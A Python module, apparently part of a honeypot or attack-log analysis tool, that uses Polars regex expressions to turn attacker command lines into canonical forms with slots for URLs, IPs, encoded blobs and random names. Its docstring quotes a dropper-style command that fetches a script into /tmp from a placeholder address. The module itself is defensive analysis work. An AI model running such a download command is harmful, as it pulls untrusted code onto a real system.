"""Canonical forms: what differs from one victim or run to the next becomes a typed slot.

`cd /tmp; wget http://192.0.2.1/x.sh` and the same with another address are then one text, and what stood in the slots
is kept beside it as literals, because a made-up name that comes back is the strongest trace there is.
All of it is Polars expressions over distinct texts.
"""

from typing import Final

import polars as pl

LONGEST: Final = 4_096
"""Characters of a text that are looked at."""

MOST_STEPS: Final = 64
"""Commands of one session that are looked at; a session of ten thousand is a script repeating itself."""

_SEPARATORS: Final = r"\|\||&&|[;\n|&]+"

_URL: Final = r"(?i)\b(?:https?|t?ftps?)://[^\s'\"<>;|)]+"
_IPV4: Final = r"\b\d{1,3}(?:\.\d{1,3}){3}\b"
_ESCAPES: Final = r"(?:\\+x[0-9a-fA-F]{2}){2,}"
_BASE64: Final = r"[A-Za-z0-9+/]{24,}={0,2}"
_HEXADECIMAL: Final = r"\b[0-9a-fA-F]{16,}\b"
_MIXED: Final = r"\b(?:[a-z]+\d+[a-z]+\d*|\d+[a-z]+\d+[a-z]*|[a-f]{1,6}\d{2,}[a-f]*|\d{1,6}[a-f]{1,6})[a-z0-9]*\b"
_CONSONANTS: Final = r"\b[a-z]*[bcdfghjklmnpqrstvwxz]{6,}[a-z]*\b"
_APPLET: Final = r"(busybox\s+)[A-Z]{4,10}\b"
_NUMBER: Final = r"\b\d{3,}\b"

_KEPT: Final = (
    r"^(?:x86|x86_64|i\d86|mips64|mips32|arm\d\w?|aarch64|sha\d+sum|md5sum|base64|ipv[46]|python[23]|utf8|ed25519|ec2|"
    r"sh4|m68k)$"
)

_SLOTS: Final = (
    (_URL, "<url>"),
    (_IPV4, "<ip>"),
    (_ESCAPES, "<bytes>"),
    (_BASE64, "<base64>"),
    (_HEXADECIMAL, "<hex>"),
    (_APPLET, "${1}<name>"),
    (_MIXED, "<name>"),
    (_CONSONANTS, "<name>"),
    (_NUMBER, "<number>"),
)


def steps(command: pl.Expr) -> pl.Expr:
    """The simple commands of a command line, canonical, in order (List(String))."""
    parts = _slotted(command.str.head(LONGEST)).str.replace_all(_SEPARATORS, "\x1f").str.split("\x1f")
    trimmed = parts.list.eval(pl.element().str.replace_all(r"\s+", " ").str.strip_chars())
    return trimmed.list.eval(pl.element().filter(pl.element() != "")).list.head(MOST_STEPS)


def literals(command: pl.Expr) -> pl.Expr:
    """Made-up names, blobs and digests in a command line, as they stand (List(String))."""
    text = command.str.head(LONGEST).str.replace_all(_URL, " ").str.replace_all(_IPV4, " ")
    found = pl.concat_list(
        text.str.extract_all(_BASE64), text.str.extract_all(_HEXADECIMAL), text.str.extract_all(_MIXED)
    )
    element = pl.element()
    return found.list.eval(
        element.filter(
            (element.str.len_chars() >= 6) & ~element.str.contains(_KEPT) & ~element.str.contains(r"^/\w*/?\w*$")
        )
    ).list.unique()


def urls_in(command: pl.Expr) -> pl.Expr:
    """Addresses named in a command line (List(String))."""
    return command.str.head(LONGEST).str.extract_all(_URL)


def host(url: pl.Expr) -> pl.Expr:
    """Host of a URL in lower case, without port and credentials; null where there is none."""
    return url.str.extract(r"(?i)^[a-z0-9+.-]+://(?:[^/@?#]*@)?(\[[0-9a-f:.]+\]|[^/:?#]+)", 1).str.to_lowercase()


def url(text: pl.Expr) -> pl.Expr:
    """A URL without what differs from victim to victim: query and fragment are dropped."""
    return text.str.head(LONGEST).str.replace(r"[?#].*$", "")


def path(text: pl.Expr) -> pl.Expr:
    """An HTTP path with slots for numbers, digests and made-up names."""
    return _slotted(text.str.head(LONGEST))


def payload(text: pl.Expr) -> pl.Expr:
    """What was sent: text with slots (addresses and moments differ each time); hexadecimal bytes as they are."""
    return pl.when(text.str.contains(r"^(?:hex:)?[0-9a-f]+$")).then(text).otherwise(_slotted(text.str.head(LONGEST)))


def template(password: pl.Expr) -> pl.Expr:
    """How a password is made: runs of digits become `9`, hexadecimal tokens `x`; null where nothing is left to tell."""
    shaped = password.str.replace_all(r"[0-9a-f]{6,}", "x").str.replace_all(r"\d+", "9")
    return pl.when((shaped != password) & (shaped.str.len_chars() >= 5)).then(shaped)


def _slotted(text: pl.Expr) -> pl.Expr:
    for pattern, slot in _SLOTS:
        text = text.str.replace_all(pattern, slot)
    return text
